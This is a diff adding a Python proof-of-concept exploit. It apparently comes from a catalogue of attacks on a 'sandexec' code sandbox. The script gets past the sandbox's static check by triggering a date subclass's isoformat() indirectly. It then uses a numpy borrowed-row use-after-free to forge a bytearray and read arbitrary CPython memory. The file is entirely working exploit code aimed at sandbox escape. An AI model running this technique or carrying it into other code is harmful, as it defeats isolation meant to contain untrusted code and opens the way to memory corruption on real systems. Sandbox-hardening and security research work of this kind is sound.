@@ -1,0 +1,55 @@
+# source: sandexec README, "The static check", 'Added since' allows str() in __str__ (only a direct isoformat() call is refused when the script defines isoformat); CPython date_str calls self.isoformat(); VOID_setitem borrowed row
+# family: same family, str() of a date subclass inside __str__
+# goal: arbitrary memory read through a fake bytearray
+import numpy as np
+import datetime
+import collections
+
+MASK = (1 << 64) - 1
+
+
+def addr_of_type(t):
+    h = hash(t) & MASK
+    return ((h << 4) | (h >> 60)) & MASK
+
+
+def q(v):
+    return (v & MASK).to_bytes(8, "little")
+
+
+keep = []
+state = {"done": False}
+rows = []
+L = 2000
+fake = q(1 << 40) + q(addr_of_type(bytearray)) + q(1 << 62) + q(1 << 62) + q(0) + q(0) + q(0)
+fake = fake + bytes(L + 32 - len(fake))
+
+
+def trigger(obj):
+    if not state["done"]:
+        state["done"] = True
+        keep.append(obj)
+        rows.clear()
+        keep.append(bytearray(fake))
+
+
+class Day(datetime.date):
+    def isoformat(self):
+        trigger(self)
+        return "2000-01-01"
+
+
+class Label:
+    def __init__(self, d):
+        self.d = d
+
+    def __str__(self):
+        return str(self.d)
+
+rows.append((Label(Day(2000, 1, 1)), bytes(L)))
+arr = np.array(rows, dtype=[("d", "U16"), ("o", "O")])
+f = arr[0]["o"]
+print(type(f), len(f) > 10**15)
+base = addr_of_type(int)
+p = int.from_bytes(bytes(f[base + 24:base + 32]), "little")
+print("tp_name of int read from memory:", bytes(f[p:p + 3]))
